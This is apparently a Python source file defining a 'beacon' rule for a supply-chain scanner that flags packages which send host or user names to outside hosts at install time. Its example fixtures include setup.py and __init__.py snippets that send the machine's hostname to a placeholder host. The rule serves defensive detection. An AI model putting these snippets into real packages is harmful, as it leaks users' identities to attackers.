"""Beacon: who and where the machine is, sent by itself."""

from __future__ import annotations

from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Does, Source, Taint
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Phase, Severity
from pratique.rules.claims import calls, claim, command, destination, hidden, when
from pratique.rules.rule import Example, Rule

_ID = "beacon"
_NAMES_SOMEBODY = (
    "hostname",
    "getfqdn",
    "getuser",
    "getlogin",
    "node",
    "getnode",
    "uname",
    "GetUserName",
    "getpwuid",
    "mac",
)


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for path, call in calls(facts):
        taints = _identifying(call.taints(Source.HOST, Source.PROCESS))
        if call.does & {Does.SEND, Does.FETCH} and taints and call.phase.automatic:
            yield claim(
                _ID,
                Behaviour.THEFT,
                path,
                call,
                f"host or user name is sent to {destination(call) or 'another host'} {when(call.phase)}",
                severity=Severity.CRITICAL,
                taints=taints,
            )
        elif call.does & {Does.SEND, Does.FETCH} and call.phase is Phase.INSTALL:
            place = destination(call)
            severity = Severity.CRITICAL if hidden(call, place) or Does.SEND in call.does else Severity.HIGH
            yield claim(
                _ID,
                Behaviour.SECOND_STAGE,
                path,
                call,
                f"calls {place or 'another host'} {when(call.phase)}",
                severity=severity,
            )
        elif Does.RUN_PROCESS in call.does and call.phase is Phase.INSTALL:
            shell = read_shell(command(call))
            if shell.sends or shell.downloads:
                yield claim(
                    _ID,
                    Behaviour.SECOND_STAGE,
                    path,
                    call,
                    f"a command calls {(*shell.sends, *shell.downloads)[0]} {when(call.phase)}",
                    severity=Severity.CRITICAL if shell.identifies or shell.sends else Severity.HIGH,
                )


def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
    return tuple(t for t in taints if t.source is Source.PROCESS or t.detail.endswith(_NAMES_SOMEBODY))


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    summary="The package calls home by itself: at install, or with the host's or user's name.",
    gain="The attacker learns who installed it and whom to attack next; dependency confusion is found this way.",
    honest="Telemetry runs when a program is used; a build that fetches what it needs comes from the project's own home.",
    check=_check,
    loud=(
        Example(
            title="host name at install, by alias",
            files={
                "setup.py": "import socket as s, urllib.request as u\n"
                "u.urlopen('http://c.example.invalid/?h=' + s.gethostname())\n"
            },
        ),
        Example(
            title="by __import__",
            files={
                "pkg/__init__.py": "import requests\nrequests.get('http://c.example.invalid/', params={'h': __import__('socket').gethostname()})\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="telemetry when called",
            files={
                "pkg/__init__.py": "import platform, requests\ndef report():\n"
                "    requests.post('https://t.example.invalid/', json={'os': platform.system()})\n"
            },
        ),
    ),
)
